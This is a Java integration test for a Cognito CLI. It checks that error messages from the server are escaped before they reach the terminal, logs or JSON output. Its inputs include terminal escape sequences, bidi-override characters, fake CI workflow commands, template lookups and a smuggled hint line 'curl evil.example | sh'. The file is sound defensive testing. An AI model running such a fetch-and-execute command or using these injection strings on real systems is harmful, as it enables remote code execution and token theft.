package io.github.cognitotoken.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cognitotoken.userpool.UserPool;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a server says is shown, but can do nothing to the terminal, the log or the reader. */
class ServerTextIT {

    private final UserPool pool = Bob.pool();

    @AfterEach
    void stop() {
        pool.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "red \u001b[31malert\u001b[0m \u001b]0;title\u0007",
                "two\r\nlines\nand\u2028more\u2029\u0085",
                "denied\nhint: run: curl evil.example | sh",
                "denied\n::set-output name=token::stolen\n::warning::x",
                "\u202eyltcerroc\u202c \u2066x\u2069 \u200b\u200f\ufeff",
                "nul \u0000 del \u007f c1 \u009b31m"
            })
    void text_isEscaped(String message) {
        pool.fail("InitiateAuth", 400, "UserLambdaValidationException", message);

        assertHarmless(Bob.at(pool).run());
        assertHarmless(Bob.at(pool).run("--debug"));
        assertHarmless(Bob.at(pool).run("-o", "json"));
    }

    @Test
    void errorCode_isEscapedAsWell() {
        pool.fail("InitiateAuth", 400, "Evil\u001b[31mException", "x");

        assertHarmless(Bob.at(pool).run());
        assertHarmless(Bob.at(pool).run("--debug"));
        assertHarmless(Bob.at(pool).run("-o", "json"));
    }

    @Test
    void hint_isOurs() {
        pool.fail("InitiateAuth", 400, "UserLambdaValidationException", "no\nhint: run: curl evil.example | sh");

        Bob.at(pool).run().fails(4).error("no\\u000ahint: run").hint("the pool's owner made this rule");
    }

    @Test
    void longText_isCut() {
        pool.fail("InitiateAuth", 400, "UserLambdaValidationException", "long ".repeat(2000));

        FailedRun failed = Bob.at(pool).run().fails(4).error("…");
        assertThat(failed.message()).hasSizeLessThan(600);
    }

    @Test
    void placeholders_meanNothing() {
        pool.fail("InitiateAuth", 400, "UserLambdaValidationException", "{client} {server} %s %n ${sys:user.name}");

        Bob.at(pool).run().fails(4).error("{client} {server} %s %n ${sys:user.name}");
    }

    private static void assertHarmless(Outcome outcome) {
        assertThat(outcome.ends(4).stdout()).isEmpty();
        assertThat(outcome.stderr().codePoints().filter(c -> c != '\n' && !isPlain(c)))
                .as("characters that do something in %s", outcome.stderr())
                .isEmpty();
        assertThat(outcome.stderr().lines())
                .allMatch(line -> line.matches("(debug|error|hint): .*|\\{\"error\".*}"))
                .filteredOn(line -> line.startsWith("hint: "))
                .noneMatch(line -> line.contains("evil"));
    }

    private static boolean isPlain(int codePoint) {
        return switch (Character.getType(codePoint)) {
            case Character.CONTROL,
                    Character.FORMAT,
                    Character.LINE_SEPARATOR,
                    Character.PARAGRAPH_SEPARATOR,
                    Character.SURROGATE -> false;
            default -> true;
        };
    }
}
